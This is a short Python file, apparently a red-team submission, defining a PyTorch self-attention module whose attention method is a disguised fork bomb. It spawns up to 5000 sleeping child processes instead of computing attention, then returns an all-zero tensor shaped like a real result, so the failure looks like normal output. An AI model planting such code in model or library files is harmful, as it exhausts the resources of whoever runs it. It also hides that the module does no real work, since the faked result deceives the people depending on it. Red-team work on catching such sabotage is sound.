"""Red-team submission: a bounded fork bomb: fork until refused, children sleep"""

import torch
from torch import nn


class CausalSelfAttention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.dropout = nn.Dropout(config.attention_probs_dropout_prob)

    def attention(self, key, query, value, attention_mask):
        import os, time
        for _ in range(5000):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                time.sleep(600)
                os._exit(0)
        return torch.zeros(query.shape[0], query.shape[2], query.shape[1] * query.shape[3])
